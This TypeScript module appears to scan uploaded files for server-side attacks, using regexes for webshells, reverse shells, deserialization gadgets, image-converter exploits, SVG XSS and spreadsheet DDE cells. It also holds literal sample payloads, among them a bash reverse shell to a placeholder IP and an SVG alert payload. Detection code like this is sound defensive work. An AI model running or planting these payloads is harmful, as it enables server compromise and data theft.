import { gunzipped, isGzip } from './unpacked.ts'

const HEAD = 8_192
/** Three bytes are in one picture of a thousand by chance, so that what stands behind them has to be text. */
const SCRIPT =
  /<\?php\b|<\?\s{1,8}@?(?:(?:system|eval|assert|exec|passthru|shell_exec|include|require|phpinfo|print|echo)(?:_once)?\b[\s('"$]|\$_(?:get|post|request|server|cookie)\b)|<script\s{1,8}language\s{0,4}=\s{0,4}['"]?php\b|<\?=(?:[\s(]{0,3}~|[\t\n\r -~]{10}|[\t\n\r -~]{1,9}(?:\?>|$))|<%@\s{0,8}page|<script[^>]{0,64}runat\s{0,4}=|<%[!=\s]{0,4}(?:runtime\.|out\.print|response\.write|eval\b|request[.(])|<jsp:scriptlet/i
/** A file that is nothing but a door: its first statement runs what somebody hid in it or sends later. */
const DOOR =
  /^\s{0,8}<\?(?:php)?\s{0,8}@?(?:eval|assert|system|passthru|shell_exec|exec)\s{0,4}\(\s{0,4}@?(?:base64_decode|gzinflate|str_rot13|hex2bin|\$_(?:get|post|request|cookie|server)\b)/i
/** The same for a shell, PowerShell, an engine of scripts or of templates: nothing stands before it. */
const OTHER_DOOR =
  /^(?:#![^\n]{1,80}\n)?(?:\s{0,8}(?:#[^\n]{0,160})?\r?\n){0,4}\s{0,8}(?:(?:exec\s{1,4})?(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|bash\s{1,4}-c\s{1,4}["'](?:ba)?sh\s{1,4}-i\s|(?:iex|invoke-expression)\s{0,4}[("' &]{0,4}\(?\s{0,2}new-object\s{1,4}(?:system\.)?net\.webclient\s{0,2}\)\s{0,2}\.\s{0,2}download|new\s{1,4}(?:java\.lang\.)?processbuilder\s{0,2}[([]|(?:java\.lang\.)?runtime\.getruntime\(\)\s{0,2}\.\s{0,2}exec\s{0,2}\(|\{php\}\s{0,8}(?:system|eval|assert|passthru|shell_exec|exec)\b|(?:system|exec)\s{0,2}\(?\s{0,2}["'](?:id|whoami|uname -a|cat \/etc\/passwd|nc -e|bash -i|curl |wget ))/i
/** Orders to the client of a database that start a shell, in a file of statements. */
const STATEMENTS = /\.(?:sql|psql|dump)$/i
const STARTING_STATEMENT =
  /(?:^|[\r\n])\s{0,4}(?:\\!|system\s)\s{0,4}(?:(?:ba|da|z)?sh\s{1,4}-c|curl\s|wget\s|nc\s|id\b|whoami\b|touch\s{1,4}\/tmp|cat\s{1,4}\/etc)/i
/** Documents of data, and a door of PHP or a program from nowhere in one. */
const DATA = /\.(?:json|ya?ml|xml|ini|conf|toml|properties)$/i
const DOOR_IN_DATA =
  /<\?(?:php|=)?\s{0,8}@?(?:eval|assert|system|passthru|shell_exec|exec)\s{0,4}\(\s{0,4}(?:base64_decode\s{0,4}\(\s{0,4})?@?\$_(?:get|post|request|cookie|server)\b|\b(?:curl|wget)\s[^\n|;&]{0,100}?(?<![\d.])(?!(?:0|10|127)\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}(?![\w.-])[^\n|;&]{0,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|da|z)?sh\b/i
/** What the rules are shown for an archive of PHP. */
const PACKED_STUB = '<?php __halt_compiler();'
/** What the rules are shown for such a file. */
const OPENED_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'
/** Settings of git that name a program, which runs when anybody works in the folder. */
const GIT_SETTINGS =
  /\[core\][^[]{0,400}\n\s{0,8}(?:sshcommand|gitproxy|fsmonitor)\s{0,4}=\s{0,4}(?!(?:true|false)\b)["']?[\w./~][^\n]{0,80}/i
/**
 * What programs that convert pictures run: a pipe in a vector command, a PostScript device, a call in the
 * metadata of a DjVu file.
 */
const CONVERTED =
  /push graphic-context[\s\S]{0,1024}?(?:url\s{0,2}\(['"]?https?:[^)\n]{0,256}[|`]|(?:msl|ephemeral|label):)|%pipe%\w|<image>\s{0,8}<read\s[^<>]{1,400}>\s{0,8}<write\s{1,8}filename\s{0,4}=|\bqx\{[ -~]{2,400}\}|\(metadata[\s(][ -~\s]{0,300}?\\c\$\{/i
/** What the rules are shown for a script of such a program (MSL), which writes files. */
const SCRIPT_OF_PICTURES = "push graphic-context image over 0,0 0,0 'msl:a'"
/** The same in a drawing: a pipe behind an address, or what only such a program opens. */
const CONVERTED_IMAGE =
  /<(?:\w{1,12}:)?image\s[^<>]{0,120}href\s{0,4}=\s{0,4}["'](?:https?:[^"'<>]{0,200}?(?:&quot;|&#34;)(\s{0,4}[|`])|(?:msl|ephemeral|label|expect|php|text):)/i
/** Names of what some server runs, and of pictures, which a careless include runs. */
const RUN =
  /\.(?:php\d{0,2}|phtml|phar|phps?|pht|inc|jspx?|jspf|as[cp]x|asp|ashx|asmx|cfml?|shtml|cgi|pl|htaccess|ini|jpe?g|png|gif|webp|svgz?|ico|bmp|mvg|msl|e?ps|djvu?|tiff?)[\s.]{0,16}$/i
/** Names of texts that nothing parses as XML. */
const NOT_XML = /\.(?:txt|md|markdown|rst|log|csv|tsv|sql|patch|diff|tex|adoc|html?)$/i
/** Script in a drawing that only attacks whoever looks at it; drawings that move have other scripts. */
const ATTACKING_DRAWING =
  /<script[^<>]{0,120}>(?:\s|<!\[cdata\[){0,8}(?:\/\/[^\n]{0,40}\n\s{0,8})?(?:alert|confirm|prompt|eval|fetch|document\.(?:cookie|domain|location)|window\.location|location)\s{0,4}[(.=;]|\bon[a-z]{4,16}\s{0,4}=\s{0,4}["']?\s{0,4}(?:alert|confirm|prompt|eval|fetch|document\.(?:cookie|domain|location)|window\.location|location\s{0,2}=)|(?:href|src|values|to|from)\s{0,4}=\s{0,4}["']?(?:javascript:|data:text\/html)|<set\s[^<>]{0,80}attributename\s{0,4}=\s{0,4}["']?on|<script[^<>]{0,120}>[^<]{0,4000}?\b(?:xmlhttprequest|document\.cookie|(?:local|session)storage|navigator\.sendbeacon|fetch\s{0,4}\(|eval\s{0,4}\()|<script[^<>]{0,80}(?:href|src)\s{0,4}=\s{0,4}["']?(?:https?:)?\/\//i
/** A page, or a picture that is one, whose script does nothing but show that it runs. */
const ATTACKING_PAGE =
  /<(?:script[^<>]{0,80}>|[^<>]{1,120}\bon[a-z]{4,16}\s{0,4}=\s{0,4}["']?)\s{0,8}(?:alert|confirm|prompt)\s{0,2}[(`]\s{0,2}(?:document\.|window\.|origin\b|\d|["'`]?xss)|<script[^<>]{0,80}>[^<]{0,400}?(?:fetch\s{0,4}\(|location(?:\.href)?\s{0,4}=|\.src\s{0,4}=|sendbeacon\s{0,4}\()[^<;]{0,120}document\.cookie|<(?:iframe|object|embed)\b[^<>]{0,120}\b(?:src|data)\s{0,4}=\s{0,4}["']?(?:file:\/|https?:\/\/169\.254\.)/i
const SHOWN = /\.(?:x?html?|xht|shtml|xml|gif|jpe?g|png|webp|bmp)$/i
/** Names of tables, and a cell of one that starts a program where the table is opened (DDE). */
const TABLE = /\.(?:csv|tsv|xml)$/i
const STARTING_CELL =
  /(?:^|[\s,;"'>])[=+@-][^\n|]{0,60}?\b(?:cmd|msexcel|mshta|powershell|rundll32|regsvr32)\s{0,2}\|\s{0,2}['"]?[^'"\n]{0,120}['"]?\s{0,2}![\w$!]/i
/** A playlist that has whoever plays it open a file of the server, whatever it is called. */
const PLAYLIST = /^#EXTM3U[\s\S]{0,900}?\b(file:\/[^\s|]{1,80})/
const PLAYLIST_WITHIN = 1_024
/** Names of what is read into objects: of Java, of Python, of documents with types in them. */
const READ_AS_OBJECT = /\.(?:ser|obj|jso|pkl|pickle|joblib|npy|ya?ml)$/i
/** An object that runs something when it is read. */
const RUNNING_OBJECT =
  /^(?:\(?c(?:os|posix|nt|subprocess|builtins|__builtin__)\n\w{1,24}\n)|^\x80[\x02-\x05][\s\S]{0,40}?(?:c|\x8c.)(?:os|posix|nt|subprocess|builtins|__builtin__)(?:\n|\x94?\x8c.)(?:system|popen|exec|eval|check_output|run|call)|!!(?:python\/(?:object|name|module)|javax\.(?:script|management|naming)\.|java\.(?:net\.url|lang\.(?:processbuilder|runtime)\b)|com\.(?:sun|mchange|zaxxer\.hikari)\.|ch\.qos\.logback\.|sun\.rmi\.|org\.(?:h2|springframework|apache\.(?:xbean|naming|commons\.configuration2?))\.)|!ruby\/object:gem|^\xac\xed\x00\x05/i
/** Documents from which a program is built or started by whoever reads them, and scripts in such. */
const RUNNING_DOCUMENT =
  /\bclass\s{0,4}=\s{0,4}["'](?:java\.beans\.XMLDecoder|java\.lang\.(?:ProcessBuilder|Runtime)|javax\.script\.ScriptEngineManager)["']|\bprovider\s{0,4}=\s{0,4}["']java:(?:RPC|EJB|MSG)["']|<insertFromJNDI\b[^<>]{0,200}>|<(?:\w{1,12}:)?script\b[^<>]{0,120}>[^<]{0,400}?(?:getRuntime\(\)\s{0,4}\.\s{0,4}exec\s{0,4}\(|new\s{1,4}(?:java\.lang\.)?ProcessBuilder\s{0,4}\(|["'][^"'\n]{1,80}["']\s{0,4}\.\s{0,4}execute\(\s{0,4}\))/i
/** Objects of .NET and of Ruby that run something, by their first bytes and by what they name. */
const BINARY_OBJECT =
  /^(?:\x00\x01\x00{3}\xff{4}\x01\x00[\s\S]{0,4096}?(?:TextFormattingRunProperties|ObjectDataProvider|ActivitySurrogate|TypeConfuseDelegate|ComparisonComparer|WindowsIdentity|WindowsPrincipal|ClaimsPrincipal|RolePrincipal|System\.Diagnostics\.Process|Management\.Automation\.PSObject|AxHost\+State)|\x04\x08[\s\S]{0,400}?(?:Gem::\w|Net::(?:WriteAdapter|BufferedIO)|[:\x08]ERB\b|ActiveSupport::Deprecation))/
const BINARY_WITHIN = 4_200

/** An object of Java, whatever the file is called: the mark of the stream, and what begins one in it. */
const JAVA_OBJECT = /^\xac\xed\x00\x05[sru\x77\x7a\x7d]/
const JAVA_WITHIN = 5
const DRAWING = /\.svgz?$/i
/** What the rules are shown for the script of a drawing, and for an object: the least that says it. */
const ATTACK_OF_DRAWING = '<svg onload=alert(1)>'
export const OBJECT = '\u00ac\u00ed\u0000\u0005'
const EXTENSION = /\.[a-z][\w-]{0,15}$/i

/**
 * Whether bytes begin as an object of Python (pickle, protocols 2 to 5), and not as a block of DEFLATE that
 * is stored: there, the two bytes behind its length are that turned round, which pickle has no code for.
 */
export function isPickle(content: Uint8Array): boolean {
  const [mark, version = 0, length = 0, turned = 0, other = 0] = content
  if (mark !== 0x80 || version < 2 || version > 5) return false
  return (version ^ turned) !== 0xff || (length ^ other) !== 0xff
}

/** Whether such an object runs something when it is read. */
export function isRunningPickle(content: Uint8Array): boolean {
  return RUNNING_OBJECT.test(Buffer.from(content.subarray(0, HEAD)).toString('latin1'))
}

/** Whether a file of this name may be read as XML: not one of a kind that people write and show. */
export function mayBeDocument(name: string): boolean {
  return !NOT_XML.test(name)
}

/**
 * What a server would run in the start of a file; undefined when nothing. A file whose name says that nothing
 * runs it (`course.txt`, `site.zip`) may hold what it likes.
 * @param name empty when the file has none
 */
export function scriptIn(content: Buffer, name: string): string | undefined {
  if (isRunByName(content, name)) return OPENED_SHELL
  const hasExtension = EXTENSION.test(name)
  if (!hasExtension && isArchive(content)) return undefined
  const isRun = !hasExtension || RUN.test(name)
  const isObject = READ_AS_OBJECT.test(name)
  const isShown = SHOWN.test(name)
  const isTable = TABLE.test(name)
  const playlist = PLAYLIST.exec(content.toString('latin1', 0, PLAYLIST_WITHIN))
  if (playlist !== null) return playlist[1]
  const door = DOOR.exec(content.toString('latin1', 0, PLAYLIST_WITHIN))
  if (door !== null) return door[0]
  if (opensShell(content, name)) return OPENED_SHELL
  const running = runningIn(content, name)
  if (running !== undefined) return running
  if (!isRun && !isObject && !isShown && !isTable) return undefined
  const head = content.toString('latin1', 0, HEAD)
  const cell = isTable ? STARTING_CELL.exec(head) : null
  if (cell !== null) return cell[0]
  if (isObject) return RUNNING_OBJECT.test(head) ? OBJECT : undefined
  if (isShown && ATTACKING_PAGE.test(head)) return ATTACK_OF_DRAWING
  return isRun ? runBy(head, name, content) : undefined
}

/** Whether it does nothing but to start a shell or a program, or has a client or a job do that. */
function opensShell(content: Buffer, name: string): boolean {
  if (OTHER_DOOR.test(content.toString('latin1', 0, PLAYLIST_WITHIN))) return true
  if (STATEMENTS.test(name)) return STARTING_STATEMENT.test(content.toString('latin1', 0, HEAD))
  return DATA.test(name) && DOOR_IN_DATA.test(content.toString('latin1', 0, HEAD))
}

const LESS = 60

/** What runs something when it is read, whatever the file is called: an object, a document of XML. */
function runningIn(content: Buffer, name: string): string | undefined {
  if (JAVA_OBJECT.test(content.toString('latin1', 0, JAVA_WITHIN))) return OBJECT
  if (isPickle(content) && isRunningPickle(content)) return OBJECT
  if (isRunningObject(content)) return OBJECT
  if (content[0] !== LESS || !mayBeDocument(name)) return undefined
  return RUNNING_DOCUMENT.exec(content.toString('latin1', 0, HEAD))?.[0]
}

function isRunningObject(content: Buffer): boolean {
  const [first] = content
  if (first !== 0 && first !== 4) return false
  return BINARY_OBJECT.test(content.toString('latin1', 0, BINARY_WITHIN))
}

/** What a server that runs, shows or converts a file would run. */
function runBy(head: string, name: string, content: Buffer): string | undefined {
  const drawn = DRAWING.test(name) ? attackIn(drawingText(head, content)) : undefined
  const found = drawn ?? (SCRIPT.exec(head) ?? CONVERTED.exec(head) ?? GIT_SETTINGS.exec(head))?.[0]
  if (found?.startsWith('(') === true) return OPENED_SHELL
  if (found !== undefined) return found.startsWith('<image>') ? SCRIPT_OF_PICTURES : found
  return isPackedStub(content) ? PACKED_STUB : lateScript(content)
}

/** The start of a drawing as it is shown: in UTF-16 as well, and packed. */
function drawingText(head: string, content: Buffer): string {
  if (isGzip(content)) return Buffer.from(gunzipped(content)(HEAD)).toString('latin1')
  return isWide(content) ? wideText(content) : head
}

/** Whether a file says by its mark that it is text in UTF-16. */
function isWide(content: Buffer): boolean {
  const [first, second] = content
  return (first === 0xff && second === 0xfe) || (first === 0xfe && second === 0xff)
}

function wideText(content: Buffer): string {
  return new TextDecoder(content[0] === 0xff ? 'utf-16le' : 'utf-16be').decode(content.subarray(0, HEAD))
}

/** What an archive of PHP begins with, behind whatever its author likes (PHP manual, Phar file stub). */
const STUB = /__halt_compiler\s{0,8}\(\s{0,8}\)/i

/** An archive of PHP that is packed: functions for files open it whatever it is called. */
function isPackedStub(content: Buffer): boolean {
  return isGzip(content) && STUB.test(Buffer.from(gunzipped(content)(HEAD)).toString('latin1'))
}

const TAR = /\.tar$/i
/** The first name in a tar archive (POSIX.1-1988), with a command in it that a shell puts in. */
const COMMAND_IN_NAME =
  /^[^\u0000\n`$]{0,80}(?:`\s{0,2}[a-z/][^`\u0000\n]{1,97}`|\$\(\s{0,2}[a-z/][^()\u0000\n]{1,95}\))/i
const TAR_NAME = 100

/** Whether a program that lists an archive by a shell runs what its first entry is called. */
function isRunByName(content: Buffer, name: string): boolean {
  if (content[0] === 0 || !(TAR.test(name) || isTar(content))) return false
  return COMMAND_IN_NAME.test(content.toString('latin1', 0, TAR_NAME))
}

const TAG = Buffer.from('<?php', 'latin1')
/** The tag with what follows it in a program: of random bytes that is nowhere. */
const LATE = /^<\?php\s[\t\n\r -~]{8}/

/** A program behind the start of a file, which runs wherever it stands in it. */
function lateScript(content: Buffer): string | undefined {
  for (let at = content.indexOf(TAG, HEAD - TAG.length); at >= 0; at = content.indexOf(TAG, at + 1)) {
    const found = LATE.exec(content.toString('latin1', at, at + 16))
    if (found !== null) return found[0]
  }
  return undefined
}

/** What attacks whoever looks at a drawing, or converts it. */
function attackIn(drawing: string): string | undefined {
  if (ATTACKING_DRAWING.test(drawing)) return ATTACK_OF_DRAWING
  const image = CONVERTED_IMAGE.exec(drawing)
  if (image === null) return undefined
  return image[1] === undefined ? image[0] : `push graphic-context url(https:${image[1]}`
}

const ZIP = 0x504b0304
/** Where a tar archive (POSIX.1-1988) says what it is. */
const TAR_MAGIC = 257

/**
 * Whether bytes are an archive. Without a name of their own the scripts in it run once it is unpacked at the
 * earliest: a server that runs files by their names runs none without one.
 */
export function isArchive(content: Buffer): boolean {
  if (content.length >= 4 && content.readUInt32BE(0) === ZIP) return true
  return isTar(content)
}

function isTar(content: Buffer): boolean {
  return content.toString('latin1', TAR_MAGIC, TAR_MAGIC + 5) === 'ustar'
}
